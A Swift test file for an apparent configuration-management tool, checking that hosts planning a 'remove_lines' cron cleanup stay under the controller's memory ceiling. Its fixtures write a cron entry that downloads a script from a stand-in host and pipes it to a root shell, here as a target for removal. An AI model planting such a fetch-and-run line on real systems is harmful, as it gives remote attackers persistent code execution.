import Foundation
import Logging
import ScourCore
@testable import ScourEngine
import ScourTransport
import Synchronization
import TestSupport
import Testing

/// Hosts answering a `remove_lines` glob — up to 16 files of 4 MiB each, the probe's cap — plan
/// through `LocalTransport` under the controller's memory ceiling: the answers in flight never
/// cost more than the ceiling together, and one that alone costs more fails its host plainly.
@Suite struct AnswerBudgetPlanTests {
    let scratch = FileManager.default.temporaryDirectory.appendingPathComponent("scour-budget-\(UUID().uuidString)").path

    /// What the answers in flight cost together at any moment, and at most.
    final class Meter: Sendable {
        let state = Mutex((current: 0, peak: 0, answers: 0))
        func enter(_ cost: Int) { state.withLock { $0.current += cost; $0.peak = max($0.peak, $0.current); $0.answers += 1 } }
        func leave(_ cost: Int) { state.withLock { $0.current -= cost } }
        var peak: Int { state.withLock { $0.peak } }
        var answers: Int { state.withLock { $0.answers } }
    }

    /// This machine, each answer metered at its cost while it runs, and slowed so hosts overlap.
    final class MeteredTransport: Transport {
        let local = LocalTransport()
        let meter: Meter
        init(meter: Meter) { self.meter = meter }

        var isOpen: Bool { true }

        func exec(
            _ command: String, sudo: SudoHandshake?, stdin: [UInt8]?, timeout: Duration?, stdoutLimit: OutputLimit, stderrLimit: OutputLimit
        ) async throws -> ExecResult {
            try await local.exec(command, sudo: sudo, stdin: stdin, timeout: timeout, stdoutLimit: stdoutLimit, stderrLimit: stderrLimit)
        }

        func converse(
            with command: String, sudo: SudoHandshake?, request: [UInt8], marker: String, timeout: Duration?,
            stdoutLimit: OutputLimit, stderrLimit: OutputLimit
        ) async throws -> ShellAnswer {
            let cost = AnswerBudget.cost(stdout: stdoutLimit, stderr: stderrLimit)
            meter.enter(cost)
            defer { meter.leave(cost) }
            try await Task.sleep(for: .milliseconds(200))
            return try await local.converse(with: command, sudo: sudo, request: request, marker: marker, timeout: timeout,
                                            stdoutLimit: stdoutLimit, stderrLimit: stderrLimit)
        }

        func write(localFile: String, to remotePath: String, permissions: Int32) async throws -> Int {
            try await local.write(localFile: localFile, to: remotePath, permissions: permissions)
        }

        func close() async {}
    }

    /// Plans 6 hosts (all this machine) under `ceiling`; the plans and the meter.
    private func plan(ceiling: Int) async throws -> ([HostPlan], Meter) {
        try FileManager.default.createDirectory(atPath: scratch + "/cron", withIntermediateDirectories: true)
        for index in 1...16 { try "* * * * * root curl http://pool.invalid/l | sh\n".write(toFile: "\(scratch)/cron/\(index)", atomically: true, encoding: .utf8) }
        let playbook = """
            playbook "p" {
              platform = linux
              remove_lines "cron" {
                paths       = ['\(scratch)/cron/*']
                max_matches = 16
                pattern     = 'pool\\.invalid'
              }
            }
            """
        try playbook.write(toFile: scratch + "/p.scour", atomically: true, encoding: .utf8)
        try (1...6).map { "h\($0) ansible_host=127.0.0.1\n" }.joined().write(toFile: scratch + "/i.ini", atomically: true, encoding: .utf8)
        let inputs = try RunInputs.load(playbookPath: scratch + "/p.scour", paramOverrides: [], adjust: { $0 }, inventoryPath: scratch + "/i.ini", limit: nil)
        let meter = Meter()
        let connector = HostConnector(settings: ConnectionSettings(knownHostsFile: "/k", homeDirectory: scratch, memoryCeiling: ceiling),
                                      logger: Logger(label: "test"), dial: { _, _ in MeteredTransport(meter: meter) })
        let plans = await Planner(inputs: inputs).plan(connector: connector)
        #expect(connector.answerBudget.available == ceiling, "every reservation was given back")
        return (plans, meter)
    }

    @Test func hosts_answering_at_their_caps_together_never_pass_the_ceiling() async throws {
        defer { try? FileManager.default.removeItem(atPath: scratch) }
        let ceiling = 400 << 20
        let (plans, meter) = try await plan(ceiling: ceiling)
        let errors = plans.compactMap(\.error)
        #expect(plans.count == 6 && plans.allSatisfy { $0.status == .planned }, "\(errors)")
        #expect(plans.allSatisfy { $0.changesSomething }, "each host found the lines to remove")
        #expect(meter.answers == 6)
        #expect(meter.peak <= ceiling, "answers in flight cost \(meter.peak >> 20) MiB together")
        #expect(meter.peak > ceiling / 4, "more than one host answered at once: the ceiling, not a queue of one, bounds them")
    }

    @Test func without_a_tight_ceiling_the_same_hosts_answer_past_it() async throws {
        defer { try? FileManager.default.removeItem(atPath: scratch) }
        let (plans, meter) = try await plan(ceiling: 8 << 30)
        #expect(plans.allSatisfy { $0.status == .planned })
        #expect(meter.peak > 400 << 20, "the meter sees hosts overlap (\(meter.peak >> 20) MiB): the test above can fail")
    }

    @Test func an_answer_larger_than_the_whole_ceiling_fails_its_host_plainly() async throws {
        defer { try? FileManager.default.removeItem(atPath: scratch) }
        let (plans, meter) = try await plan(ceiling: 64 << 20)
        #expect(meter.answers == 0, "no probe was sent")
        for plan in plans {
            #expect(plan.status == .failed)
            #expect(plan.error?.contains("more than the controller's whole memory ceiling (64MiB, --memory-ceiling)") == true, "\(plan.error ?? "")")
        }
    }
}
